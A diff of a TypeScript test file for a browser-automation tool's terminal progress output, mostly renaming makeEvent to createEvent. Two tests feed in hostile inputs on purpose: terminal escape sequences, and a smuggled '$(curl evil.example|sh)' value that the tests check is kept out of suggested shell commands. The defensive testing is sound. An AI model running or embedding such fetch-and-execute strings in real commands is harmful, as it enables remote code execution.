@@ -1,4 +1,4 @@
-import { makeEvent, type EventDraft, type RunEvent } from '@pilothouse/contract';
+import { createEvent, type EventDraft, type RunEvent } from '@pilothouse/contract';
 import { atWorkLine, Progress } from './progress.ts';
 import { styleFor } from './style.ts';
 
@@ -12,10 +12,10 @@ const numbered = (draft: EventDraft): RunEvent => ({
 });
 const error = { code: 'TARGET_NOT_FOUND', message: 'nothing', retry: 'no' } as const;
 const acting = (step: number, title: string) =>
-  numbered(makeEvent('step.acting', title, { step, id: null, action: 'click', title, summary: title }, at));
+  numbered(createEvent('step.acting', title, { step, id: null, action: 'click', title, summary: title }, at));
 const acted = (step: number, value?: string | object[]) =>
   numbered(
-    makeEvent(
+    createEvent(
       'step.acted',
       'done',
       { step, id: null, rung: 0, ms: 840, located: null, value: value as never, page: null },
@@ -25,7 +25,7 @@ const acted = (step: number, value?: string | object[]) =>
 
 const queued = (steps?: number) => {
   const data = { fleet: 'browser', priority: 0, retryOf: null, ...(steps !== undefined && { steps }) };
-  return numbered(makeEvent('run.queued', 'Queued', data, at));
+  return numbered(createEvent('run.queued', 'Queued', data, at));
 };
 const progress = () => {
   const run = new Progress(styleFor(false));
@@ -40,7 +40,7 @@ test('a step that was done is one line: mark, number, title, time, and in short 
     atWork: { text: ' 3/24  Read the catalogue', since: at.toISOString() },
   });
   const branch = { step: 2, id: null, branch: 'left', n: 1, action: 'click', title: 'Open' } as const;
-  expect(run.tell(numbered(makeEvent('branch.acting', 'left: Open', branch, at)))).toMatchObject({
+  expect(run.tell(numbered(createEvent('branch.acting', 'left: Open', branch, at)))).toMatchObject({
     atWork: { text: '  left  Open' },
   });
   const { lines, atWork } = run.tell(acted(2, [{ sku: 'A' }, { sku: 'B' }]));
@@ -52,10 +52,12 @@ test('a step that was done is one line: mark, number, title, time, and in short 
 test('a step that failed has its cross and code, and the run that failed says at which step', () => {
   const run = progress();
   run.tell(acting(3, 'Log in'));
-  const [line] = run.tell(numbered(makeEvent('step.failed', 'no', { step: 3, id: null, error, ms: 30_000 }, at))).lines;
+  const [line] = run.tell(
+    numbered(createEvent('step.failed', 'no', { step: 3, id: null, error, ms: 30_000 }, at)),
+  ).lines;
   expect(line).toMatch(/^✗ {2}4\/24 {2}Log in +30 s {2}TARGET_NOT_FOUND$/);
   expect(run.failure).toBeNull();
-  run.tell(numbered(makeEvent('run.failed', 'no', { error, step: 3 }, at)));
+  run.tell(numbered(createEvent('run.failed', 'no', { error, step: 3 }, at)));
   expect(run.failure).toEqual({ step: 3, at: '4', title: 'Log in' });
 });
 
@@ -65,22 +67,22 @@ test('where control flow decides how many steps there are, a line says where its
   const title = 'Read';
   const at = (step: number, at?: string) => ({ step, ...(at !== undefined && { at }), id: null });
   const begin = (place: { step: number; id: null }) =>
-    numbered(makeEvent('step.acting', title, { ...place, action: 'click', title, summary: title }, new Date(0)));
+    numbered(createEvent('step.acting', title, { ...place, action: 'click', title, summary: title }, new Date(0)));
   const outcome = { rung: 0, ms: 840, located: null, page: null };
   const numbers = [at(0), at(1, '2[1]/1'), at(2, '2[2]/1'), at(3, '3')].map((place) => {
     run.tell(begin(place));
     const [line = ''] = run.tell(
-      numbered(makeEvent('step.acted', 'done', { ...place, ...outcome }, new Date(0))),
+      numbered(createEvent('step.acted', 'done', { ...place, ...outcome }, new Date(0))),
     ).lines;
     return line.split(/ +/)[1];
   });
   expect(numbers).toEqual(['1', '2[1]/1', '2[2]/1', '3']);
-  run.tell(numbered(makeEvent('run.failed', 'no', { error, step: 2 }, new Date(0))));
+  run.tell(numbered(createEvent('run.failed', 'no', { error, step: 2 }, new Date(0))));
   expect(run.failure).toEqual({ step: 2, at: '2[2]/1', title });
 });
 
 test('a worker that went away is told, and that another is waited for', () => {
-  const lost = numbered(makeEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, at));
+  const lost = numbered(createEvent('run.requeued', 'The worker went away', { error, worker: 'w' }, at));
   expect(progress().tell(lost)).toEqual({
     lines: ['↻ The worker went away: back in the queue, for another worker'],
     atWork: { text: 'waiting for another worker', since: at.toISOString() },
@@ -91,7 +93,7 @@ test('titles and messages of others cannot act on the terminal', () => {
   const run = progress();
   run.tell(acting(0, 'Open \u001b]0;mine\u0007the page\r'));
   expect(run.tell(acted(0)).lines[0]).toContain('Open the page');
-  const warning = numbered(makeEvent('log', 'x\u001b[2Jy', { facts: {} }, at, 'warn'));
+  const warning = numbered(createEvent('log', 'x\u001b[2Jy', { facts: {} }, at, 'warn'));
   expect(run.tell(warning).lines).toEqual(['! xy']);
 });
 
@@ -102,7 +104,7 @@ test('what a newer API says in a form not known here is passed over', () => {
 });
 
 test('debug and info logs are for `logs`', () => {
-  expect(progress().tell(numbered(makeEvent('log', 'quiet', { facts: {} }, at))).lines).toEqual([]);
+  expect(progress().tell(numbered(createEvent('log', 'quiet', { facts: {} }, at))).lines).toEqual([]);
 });
 
 test('what is at work shows its seconds when there are some', () => {
@@ -125,7 +127,7 @@ test('a question is shown with how to answer it', () => {
     ],
     until: at.toISOString(),
   };
-  const asked = run.tell(numbered(makeEvent('run.awaiting_user', question.reason, question, at)));
+  const asked = run.tell(numbered(createEvent('run.awaiting_user', question.reason, question, at)));
   expect(asked.lines).toEqual([
     '? Step 5 may have happened before',
     '  npx pilothouse answer 0197f3c2-1a2b continue --question 2.4.0',
@@ -138,14 +140,14 @@ test('a question is shown with how to answer it', () => {
   expect(asked.atWork?.text).toBe('waiting for a person');
   // An API of before names none.
   const { key, ...unnamed } = question;
-  expect(run.tell(numbered(makeEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
+  expect(run.tell(numbered(createEvent('run.awaiting_user', question.reason, unnamed, at))).lines[1]).toBe(
     '  npx pilothouse answer 0197f3c2-1a2b continue',
   );
   // Nothing that a worker says is pasted with a command.
   const evil = '$(curl evil.example|sh)';
   const choices = [{ choice: 'continue' as const, title: evil }];
   const said = { ...question, key: `0.0@${evil}`, choices };
-  const shown = run.tell(numbered(makeEvent('run.awaiting_user', question.reason, said, at))).lines;
+  const shown = run.tell(numbered(createEvent('run.awaiting_user', question.reason, said, at))).lines;
   const commands = shown.filter((line) => line.includes('npx'));
   expect(commands).toEqual([
     '  npx pilothouse answer 0197f3c2-1a2b continue',
@@ -153,7 +155,7 @@ test('a question is shown with how to answer it', () => {
   ]);
   expect(shown).toContain(`    ${evil}`);
   const resumed = { by: 'Ada', choice: 'repeat' as const, step: 4 };
-  expect(run.tell(numbered(makeEvent('run.resumed', 'Ada answered: repeat', resumed, at))).lines).toEqual([
+  expect(run.tell(numbered(createEvent('run.resumed', 'Ada answered: repeat', resumed, at))).lines).toEqual([
     '· Ada answered: repeat',
   ]);
 });
